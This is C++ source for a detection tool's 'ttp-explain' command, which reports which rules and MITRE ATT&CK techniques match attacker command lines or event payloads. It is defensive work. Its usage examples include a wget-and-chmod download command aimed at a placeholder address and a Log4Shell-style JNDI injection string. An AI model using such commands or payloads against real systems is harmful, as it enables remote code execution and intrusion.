// decnet ttp-explain: which rules fire on a text, what they matched, what they say.
#include <fmt/format.h>
#include <unistd.h>

#include "decnet/cli/commands.h"
#include "decnet/cli/detection.h"
#include "decnet/cli/explain_event.h"
#include "decnet/cli/explain_lines.h"
#include "decnet/cli/explanation.h"
#include "decnet/cli/standard_input.h"

namespace decnet::cli {
namespace {

// More than is evaluated of a text (64 KiB) many times over, and a payload may hold several.
constexpr std::size_t kMaxInputBytes = std::size_t{16} << 20;

class TtpExplain : public Command {
 public:
  [[nodiscard]] Manual manual() const override {
    return {
        .description =
            "Says which rules fire on a command line an attacker typed: what they matched and "
            "where, which MITRE ATT&CK techniques they report with which confidence, and the "
            "evidence they would store. A rule that an operator disabled is named apart. Stores "
            "nothing "
            "and needs no database, unless the rules are kept there.\n\n"
            "Without TEXT, or with -, standard input is read and judged as one text.\n\n"
            "With --kind, TEXT is a JSON object: the payload of an event of that kind.\n\n"
            "With --jsonl, standard input (plain or gzip) is read line by line: {\"text\": …} "
            "for a command, or {\"text\", \"kind\", \"payload\"}. For each line one line comes "
            "out, in order: {\"text\", \"techniques\", \"tags\": [{\"technique\", \"tactic\", "
            "\"confidence\", \"rule\"}]}. A line that cannot be read gives "
            "the same with \"error\" and a note on standard error, and the rest goes "
            "on. Output is written in blocks, not line by line.",
        .environment = {kDetectionSettings.begin(), kDetectionSettings.end()},
        .examples =
            {{"decnet ttp-explain 'wget http://192.0.2.1/x; chmod 777 x'", "one command line"},
             {"decnet ttp-explain --rules ./rules/ttp < script.sh",
              "a script, with rules under development"},
             {"decnet ttp-explain --kind http_request '{\"raw_url\": \"/?x=${jndi:ldap://h}\"}'",
              "an HTTP request"},
             {"decnet ttp-explain --jsonl < texts.jsonl > techniques.jsonl", "a million of them"}},
        .success = "judged, whether or not a rule fires",
        .failure =
            "the rules or the ATT&CK catalogue cannot be used, or the input cannot be "
            "read"};
  }

  void declare(Options& options) override {
    options.argument("TEXT", text_, "A command line; - or nothing: standard input.");
    options.text(
        "--kind", "KIND", kind_,
        fmt::format("TEXT is the JSON payload of an event of this kind: {}.", explained_kinds()));
    options.flag("--jsonl", jsonl_, "Reads and writes one JSON object a line.");
    options.flag("--json", json_, "Prints one JSON object.");
    declare_rules_option(options);
  }

  int run(Context& context) override {
    const bool from_input = !text_ || *text_ == "-";
    if (jsonl_ && (!from_input || kind_ || json_)) {
      return context.failed("--jsonl takes neither TEXT nor --kind nor --json", kUsageError);
    }
    if (kind_) {  // before anything is read
      const auto possible = explained_payload(*kind_, Json::object({}));
      if (!possible) return context.failed("--kind: " + possible.error().message, kUsageError);
    }
    const auto detection = open_detection(context);
    if (!detection) return context.failed(detection.error());
    if (detection->book->rules()->rules().empty()) {
      return context.failed("there is no rule to judge by: name their directory with --rules");
    }
    if (jsonl_) return run_lines(context, *detection);

    if (from_input) {
      if (isatty(STDIN_FILENO) != 0) {
        context.err.line("Type or paste a command line; end it with Enter and Ctrl+D.");
      }
      auto input = read_standard_input(kMaxInputBytes);
      if (!input) return context.failed(input.error());
      text_ = *std::move(input);
    }
    const auto event = asked_event();
    if (!event) return context.failed(event.error());
    const auto explanation = explain(*event, *detection);
    if (json_) {
      context.out.json_line(as_json(explanation, *detection).dump());
    } else {
      context.out.write(as_text(explanation, *detection, context.out));
    }
    return kSuccess;
  }

 private:
  static int run_lines(Context& context, const Detection& detection) {
    const auto source = importers::open_lines("-");
    if (!source) return context.failed(source.error());
    const auto done = explain_lines(**source, *detection.tagger, context.out, context.err);
    return done ? kSuccess : context.failed(done.error());
  }

  [[nodiscard]] Result<Event> asked_event() const {
    if (!kind_) return explained_command(*text_);
    auto payload = Json::parse(*text_);
    if (!payload) return fail(payload.error().in("the payload is no JSON object"));
    return explained_payload(*kind_, *std::move(payload));
  }

  std::optional<std::string> text_;
  std::optional<std::string> kind_;
  bool jsonl_ = false;
  bool json_ = false;
};

}  // namespace

std::unique_ptr<Command> ttp_explain() { return std::make_unique<TtpExplain>(); }

}  // namespace decnet::cli
